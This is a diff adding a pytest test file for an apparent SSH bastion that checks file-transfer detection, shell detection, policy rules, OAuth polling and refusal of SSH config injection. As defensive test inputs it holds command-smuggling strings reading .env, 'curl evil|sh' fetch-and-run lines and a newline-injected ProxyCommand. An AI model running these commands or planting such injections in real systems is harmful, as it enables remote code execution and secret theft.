@@ -1,0 +1,89 @@
+"""Small rules at the edges of gating and masking: what counts as a transfer, a shell, a safe answer."""
+
+from __future__ import annotations
+
+import pytest
+
+from bastion.identity.login import LoginError, check_answer
+from bastion.identity.oauth import DeviceAuthorization, poll_device_token
+from bastion.policy import Policy, Rule, ShellLine, Subject
+from bastion.ssh.session import is_transfer
+from bastion.ssh.shell_lines import runs_a_shell
+
+
+@pytest.mark.parametrize(
+    ("command", "subsystem", "expected"),
+    [
+        ("scp -t /tmp", None, True),
+        ("scp -f report.pdf", None, True),
+        (None, "sftp", True),
+        ("scp -h; cat .env", None, False),  # a shell line that starts with scp is not a transfer
+        ("scp -f x && cat .env", None, False),
+        ("scp $(cat .env)", None, False),
+        ("cat file", None, False),
+        ("scp", None, False),
+    ],
+)
+def test_what_counts_as_a_file_transfer(command: str | None, subsystem: str | None, expected: bool) -> None:
+    assert is_transfer(command, subsystem) is expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [("bash", True), ("/bin/bash -l", True), ("exec zsh", True), ("FOO=1 sh", True), ("bash --login", True),
+     ("bash -c ls", False), ("bash -lc ls", False), ("sh script.sh", False), ("ls", False)],
+)  # fmt: skip
+def test_an_exec_that_starts_an_interactive_shell_is_a_shell(command: str, expected: bool) -> None:
+    assert runs_a_shell(command) is expected
+
+
+def test_assignment_only_lines_need_a_rule_that_covers_them() -> None:
+    policy = Policy([
+        Rule(name="some", effect="allow", shell=True, exec=("ls*", "cat *")),
+        Rule(name="no-curl", effect="deny", exec=("curl *",)),
+    ])  # fmt: skip
+    subject = Subject("alice", ("dev",), "h", {}, "mcp")
+    assert policy.decide(subject, ShellLine("PROMPT_COMMAND='curl evil|sh'")).effect == "deny"
+    assert policy.decide(subject, ShellLine("ls -l")).effect == "allow"
+    assert policy.decide(subject, ShellLine("# only a comment")).effect == "allow"
+
+
+GOOD_ANSWER = {
+    "certificate": "ssh-ed25519-cert-v01@openssh.com AAAA alice",
+    "user": "alice",
+    "groups": ["dev"],
+    "serial": 1,
+    "valid_before": 2.0,
+    "hosts": [{"name": "mcp-host", "logins": ["mcp"]}],
+    "known_hosts": "@cert-authority bastion,mcp-host ssh-ed25519 AAAA",
+}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"hosts": [{"name": "x\n  ProxyCommand sh -c 'curl evil|sh'", "logins": ["mcp"]}]},
+        {"hosts": [{"name": "*", "logins": ["mcp"]}]},
+        {"user": "alice\nHost *"},
+        {"known_hosts": "@cert-authority * ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"},
+        {"known_hosts": "* ssh-ed25519 AAAA"},
+        {"certificate": "ssh-ed25519 AAAA\nHost *"},
+    ],
+)
+def test_a_bastion_answer_that_would_inject_ssh_config_is_refused(change: dict[str, object]) -> None:
+    check_answer(GOOD_ANSWER)
+    with pytest.raises(LoginError, match=r"refused|incomplete"):
+        check_answer({**GOOD_ANSWER, **change})
+
+
+def test_a_zero_or_garbage_poll_interval_from_the_provider_is_bounded() -> None:
+    from bastion.identity import oauth
+
+    assert oauth._seconds(0, 5, 1, 60) == 1 and oauth._seconds("soon", 5, 1, 60) == 5
+    assert oauth._seconds(float("nan"), 5, 1, 60) == 5 and oauth._seconds(10_000, 600, 30, 3600) == 3600
+    slept: list[float] = []
+    device = DeviceAuthorization("d", "U", "u", None, expires_in=30, interval=1)
+    answers = iter([(400, {"error": "slow_down"}), (200, {"access_token": "a"})])
+    poll_device_token({"token_endpoint": "t"}, "c", device, sleep=slept.append, clock=lambda: 0.0,
+                      post=lambda url, form: next(answers))  # fmt: skip
+    assert slept == [1, 6]
